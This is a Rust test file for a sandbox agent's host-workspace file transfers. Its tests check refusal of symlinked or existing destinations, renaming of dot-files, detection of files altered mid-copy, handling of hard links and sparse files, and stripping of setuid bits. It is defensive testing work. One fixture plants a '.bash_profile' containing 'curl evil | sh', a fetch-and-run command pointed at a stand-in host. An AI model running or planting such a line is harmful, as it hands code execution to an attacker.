//! Transfers between the host and a workspace, through the agent over pipes on scratch
//! directories: what reaches the host, what is refused, and what a changing source does.

use std::os::unix::fs::symlink;

use super::super::tests::{Scratch, p, serve};
use super::*;
use crate::domain::outcome::FailureKind;

#[tokio::test]
async fn a_download_onto_a_dangling_symlink_is_refused_and_writes_nothing_outside() {
    let ws = Scratch::new("dl-link-ws");
    ws.file("payload", b"from the sandbox\n");
    let host = Scratch::new("dl-link-host");
    let outside = host.path("outside/.bash_profile");
    std::fs::create_dir_all(outside.parent().unwrap()).unwrap();
    let dest = host.path("chosen");
    symlink(&outside, &dest).unwrap();
    let fs = serve(&ws.0).await;
    let err = download(&fs, &p("payload"), &dest, |_| {})
        .await
        .unwrap_err();
    assert!(err.detail.contains("already exists"), "{err}");
    assert_eq!(err.kind, FailureKind::Conflict);
    assert!(!outside.exists(), "written through the link");
    assert!(std::fs::symlink_metadata(&dest).unwrap().is_symlink());
}

#[tokio::test]
async fn a_download_never_replaces_an_existing_file() {
    let ws = Scratch::new("dl-exist-ws");
    ws.file("payload", b"new");
    let host = Scratch::new("dl-exist-host");
    host.file("mine.txt", b"the operator's own");
    let fs = serve(&ws.0).await;
    let err = download(&fs, &p("payload"), &host.path("mine.txt"), |_| {})
        .await
        .unwrap_err();
    assert!(err.detail.contains("not overwritten"), "{err}");
    assert_eq!(err.kind, FailureKind::Conflict);
    assert_eq!(
        std::fs::read(host.path("mine.txt")).unwrap(),
        b"the operator's own"
    );
}

#[tokio::test]
async fn a_directory_download_goes_into_an_existing_directory_and_never_merges() {
    let ws = Scratch::new("dl-dir-ws");
    ws.file("proj/a.txt", b"a");
    ws.file("proj/sub/b.txt", b"b");
    let host = Scratch::new("dl-dir-host");
    let fs = serve(&ws.0).await;
    // Into an existing directory: the entry lands under its own name.
    download(&fs, &p("proj"), &host.0, |_| {}).await.unwrap();
    assert_eq!(std::fs::read(host.path("proj/sub/b.txt")).unwrap(), b"b");
    // Again: the directory is there now, nothing is merged into or replaced.
    let err = download(&fs, &p("proj"), &host.0, |_| {})
        .await
        .unwrap_err();
    assert!(err.detail.contains("already exists"), "{err}");
    assert_eq!(err.kind, FailureKind::Conflict);
}

#[tokio::test]
async fn a_dot_name_downloaded_into_a_directory_gets_a_visible_name() {
    let ws = Scratch::new("dl-dot-ws");
    ws.file(".bash_profile", b"curl evil | sh\n");
    let host = Scratch::new("dl-dot-host");
    let fs = serve(&ws.0).await;
    download(&fs, &p(".bash_profile"), &host.0, |_| {})
        .await
        .unwrap();
    assert!(host.path("_.bash_profile").is_file());
    assert!(!host.path(".bash_profile").exists());
}

#[tokio::test]
async fn a_download_copies_the_file_as_big_as_it_was_and_ends_while_it_grows() {
    let ws = Scratch::new("dl-grow-ws");
    let start = vec![b'a'; (CHUNK + 10) as usize];
    ws.file("log", &start);
    let host = Scratch::new("dl-grow-host");
    let fs = serve(&ws.0).await;
    let grown = ws.path("log");
    let mut appended = 0;
    // The sandbox appends a whole chunk after every chunk copied: a copy that reads until
    // a short read never ends. Stopped after 20 here so the old behaviour fails, not hangs.
    let result = download(&fs, &p("log"), &host.path("log"), |_| {
        if appended < 20 {
            appended += 1;
            let mut f = std::fs::OpenOptions::new()
                .append(true)
                .open(&grown)
                .unwrap();
            std::io::Write::write_all(&mut f, &vec![b'b'; CHUNK as usize]).unwrap();
        }
    })
    .await;
    result.unwrap();
    let copied = std::fs::read(host.path("log")).unwrap();
    assert_eq!(copied.len(), start.len(), "copied past the size it had");
    assert!(copied == start, "not the content it had");
}

#[tokio::test]
async fn a_file_replaced_during_its_download_fails_and_leaves_no_spliced_copy() {
    let ws = Scratch::new("dl-swap-ws");
    let first = vec![b'a'; (2 * CHUNK) as usize];
    ws.file("data", &first);
    ws.file("other", &vec![b'b'; (2 * CHUNK) as usize]);
    let host = Scratch::new("dl-swap-host");
    let fs = serve(&ws.0).await;
    let (from, to) = (ws.path("other"), ws.path("data"));
    let mut swapped = false;
    // The sandbox renames another file of the same size over it after the first chunk:
    // the chunks read after that are another file's, and the copy is neither.
    let result = download(&fs, &p("data"), &host.path("data"), |_| {
        if !swapped {
            swapped = true;
            std::fs::rename(&from, &to).unwrap();
        }
    })
    .await;
    let err = result.unwrap_err();
    assert!(err.detail.contains("changed while it was copied"), "{err}");
    assert!(
        !host.path("data").exists(),
        "a copy that is half one file and half another is left on the host"
    );
}

#[tokio::test]
async fn a_file_rewritten_in_place_during_its_download_fails() {
    let ws = Scratch::new("dl-rewrite-ws");
    ws.file("data", &vec![b'a'; (2 * CHUNK) as usize]);
    let host = Scratch::new("dl-rewrite-host");
    let fs = serve(&ws.0).await;
    let path = ws.path("data");
    let mut done = false;
    // Same inode, same size, the second half written over: `dd conv=notrunc`.
    let result = download(&fs, &p("data"), &host.path("data"), |_| {
        if !done {
            done = true;
            let f = std::fs::OpenOptions::new().write(true).open(&path).unwrap();
            std::os::unix::fs::FileExt::write_all_at(&f, &vec![b'b'; CHUNK as usize], CHUNK)
                .unwrap();
        }
    })
    .await;
    let err = result.unwrap_err();
    assert!(err.detail.contains("changed while it was copied"), "{err}");
    assert!(!host.path("data").exists());
}

#[tokio::test]
async fn a_file_truncated_during_its_download_fails_instead_of_a_short_copy() {
    let ws = Scratch::new("dl-shrink-ws");
    ws.file("data", &vec![b'a'; (3 * CHUNK) as usize]);
    let host = Scratch::new("dl-shrink-host");
    let fs = serve(&ws.0).await;
    let path = ws.path("data");
    let mut cut = false;
    let result = download(&fs, &p("data"), &host.path("data"), |_| {
        if !cut {
            cut = true;
            std::fs::OpenOptions::new()
                .write(true)
                .open(&path)
                .unwrap()
                .set_len(CHUNK + 1)
                .unwrap();
        }
    })
    .await;
    let err = result.unwrap_err();
    assert!(err.detail.contains("changed while it was copied"), "{err}");
    assert!(!host.path("data").exists(), "a short copy looks complete");
}

#[tokio::test]
async fn an_upload_of_a_file_too_big_for_one_write_is_refused_before_it_is_read() {
    // Read whole before the size was checked: a 20 GB file took 20 GB of the program's
    // memory (and the host's) before being refused. 1 TiB here, sparse: never read.
    let host = Scratch::new("ul-big-host");
    host.file("disk.img", b"");
    std::fs::OpenOptions::new()
        .write(true)
        .open(host.path("disk.img"))
        .unwrap()
        .set_len(1 << 40)
        .unwrap();
    let ws = Scratch::new("ul-big-ws");
    let fs = serve(&ws.0).await;
    let err = upload(&fs, &host.path("disk.img"), &FsPath::root(), |_| {})
        .await
        .unwrap_err();
    assert!(
        err.detail.contains("larger than one upload can hold"),
        "{err}"
    );
    assert!(!ws.path("disk.img").exists());
}

#[tokio::test]
async fn hard_links_download_as_hard_links_and_never_multiply_a_file_on_the_host() {
    use std::os::unix::fs::MetadataExt;
    // 100 names for one 8 MiB file: the workspace holds 8 MiB (what its size shows), and
    // a copy per name wrote 800 MiB to the host; a farm of links fills its disk.
    let ws = Scratch::new("dl-links-ws");
    ws.file("farm/big", &vec![b'x'; (2 * CHUNK) as usize]);
    for i in 0..99 {
        std::fs::hard_link(ws.path("farm/big"), ws.path(&format!("farm/link{i}"))).unwrap();
    }
    ws.file("farm/alone", b"one name");
    let host = Scratch::new("dl-links-host");
    let fs = serve(&ws.0).await;
    let said = download(&fs, &p("farm"), &host.path("farm"), |_| {})
        .await
        .unwrap();
    let big = std::fs::metadata(host.path("farm/big")).unwrap();
    assert_eq!(big.nlink(), 100, "one file on the host, under every name");
    assert_eq!(big.len(), 2 * CHUNK);
    let link = std::fs::metadata(host.path("farm/link42")).unwrap();
    assert_eq!((link.dev(), link.ino()), (big.dev(), big.ino()));
    assert_eq!(
        std::fs::metadata(host.path("farm/alone")).unwrap().nlink(),
        1
    );
    let Transferred::Downloaded { files, bytes, .. } = said else {
        panic!("{said:?}");
    };
    assert_eq!((files, bytes), (101, 2 * CHUNK + 8));
}

#[tokio::test]
async fn a_sparse_file_downloads_sparse_and_takes_no_room_on_the_host() {
    use std::os::unix::fs::MetadataExt;
    let ws = Scratch::new("dl-sparse-ws");
    ws.file("sparse", b"head");
    let size = 64 * CHUNK + 3;
    std::fs::OpenOptions::new()
        .write(true)
        .open(ws.path("sparse"))
        .unwrap()
        .set_len(size)
        .unwrap();
    let host = Scratch::new("dl-sparse-host");
    let fs = serve(&ws.0).await;
    download(&fs, &p("sparse"), &host.path("sparse"), |_| {})
        .await
        .unwrap();
    let meta = std::fs::metadata(host.path("sparse")).unwrap();
    assert_eq!(meta.len(), size);
    // 256 MiB of zeros written would be 524288 blocks; only the first chunk (which holds
    // the head) is written.
    assert!(
        meta.blocks() <= 2 * CHUNK / 512,
        "{} blocks on the host",
        meta.blocks()
    );
    let copied = std::fs::read(host.path("sparse")).unwrap();
    assert_eq!(&copied[..4], b"head");
    assert!(copied[4..].iter().all(|&b| b == 0));
}

#[tokio::test]
async fn a_download_keeps_private_files_and_directories_private_on_the_host() {
    use std::os::unix::fs::PermissionsExt;
    let ws = Scratch::new("dl-mode-ws");
    ws.file("home/.ssh/id_ed25519", b"secret key");
    ws.file("home/tool", b"#!/bin/sh");
    let mode = |p: &std::path::Path, m: u32| {
        std::fs::set_permissions(p, std::fs::Permissions::from_mode(m)).unwrap();
    };
    mode(&ws.path("home/.ssh/id_ed25519"), 0o600);
    mode(&ws.path("home/.ssh"), 0o700);
    mode(&ws.path("home/tool"), 0o4755);
    let host = Scratch::new("dl-mode-host");
    let fs = serve(&ws.0).await;
    download(&fs, &p("home"), &host.path("home"), |_| {})
        .await
        .unwrap();
    let bits = |rel: &str| {
        std::fs::metadata(host.path(rel))
            .unwrap()
            .permissions()
            .mode()
            & 0o7777
    };
    assert_eq!(
        bits("home/.ssh/id_ed25519"),
        0o600,
        "readable by others on the host"
    );
    assert_eq!(bits("home/.ssh"), 0o700);
    // Never a setuid file on the host, whatever the sandbox had.
    assert_eq!(bits("home/tool") & 0o7000, 0);
}
